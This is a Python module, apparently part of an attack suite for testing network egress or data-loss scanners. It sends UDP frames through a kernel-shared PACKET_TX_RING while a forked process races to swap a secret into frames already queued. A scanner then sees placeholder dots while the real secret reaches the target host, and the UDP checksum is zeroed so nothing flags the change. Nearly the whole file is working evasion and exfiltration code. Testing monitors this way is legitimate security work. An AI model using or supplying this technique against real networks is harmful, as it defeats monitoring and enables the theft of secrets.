"""Frames in memory shared with the kernel (PACKET_TX_RING), changed while they are on their way.

The kernel's packet refers to the ring's pages until the device copies them. Another process flips
the value in and out of all frames meanwhile, so that what a scanner saw and what arrives may
differ. UDP without a checksum, so that none betrays it.
"""

from __future__ import annotations

import mmap
import os
import signal
import socket
import struct
import time

from attacks.frames import ethernet, ip4
from attacks.target import Target, refused

SOL_PACKET, PACKET_VERSION, PACKET_TX_RING = 263, 10, 13
TPACKET_V2, SEND_REQUEST, AVAILABLE = 1, 1, 0
DATA = 32  # behind struct tpacket2_hdr
FRAME, FRAMES = 2048, 16
PLACES = range(0, FRAME * FRAMES, FRAME)
ROUNDS = 60
FLIPPING = 10.0
SOURCE_PORT = 40_000


def main(target: Target) -> None:
    """Fill the ring with clean frames and send them while they change."""
    payload = target.payload
    clean = payload.replace(target.secret, b"." * len(target.secret))
    head = struct.pack("!HHHH", SOURCE_PORT, target.port, 8 + len(payload), 0)
    packet = ip4(target.source, target.address, socket.IPPROTO_UDP, head + clean)
    frame = ethernet(target.mac, target.next_hop(), packet)
    value = len(frame) - len(clean) + clean.index(b"." * len(target.secret))
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0) as out:
        out.setsockopt(SOL_PACKET, PACKET_VERSION, TPACKET_V2)
        ring = struct.pack("=IIII", FRAME * FRAMES, 1, FRAME, FRAMES)
        out.setsockopt(SOL_PACKET, PACKET_TX_RING, ring)
        out.bind((target.device, 0))
        with mmap.mmap(out.fileno(), FRAME * FRAMES, mmap.MAP_SHARED) as memory:
            for place in PLACES:
                memory[place + DATA : place + DATA + len(frame)] = frame
            child = os.fork()
            if child == 0:
                flip(memory, value + DATA, target.secret)
                os._exit(0)
            try:
                for _ in range(ROUNDS):
                    send_round(out, memory, len(frame))
            finally:
                os.kill(child, signal.SIGKILL)
                os.waitpid(child, 0)


def flip(memory: mmap.mmap, offset: int, secret: bytes) -> None:
    """Write the value and dots in turns into all frames, for at most some seconds."""
    end, size = time.monotonic() + FLIPPING, len(secret)
    while time.monotonic() < end:
        for text in (secret, b"." * size):
            for place in PLACES:
                memory[place + offset : place + offset + size] = text


def send_round(out: socket.socket, memory: mmap.mmap, size: int) -> None:
    """One ring full."""
    for place in PLACES:
        memory[place : place + 8] = struct.pack("=II", SEND_REQUEST, size)
    with refused():
        out.send(b"")
    end = time.monotonic() + 0.02
    while time.monotonic() < end and any(memory[place] != AVAILABLE for place in PLACES):
        time.sleep(0.001)
    for place in PLACES:  # what the network refused stays marked
        memory[place : place + 4] = struct.pack("=I", AVAILABLE)
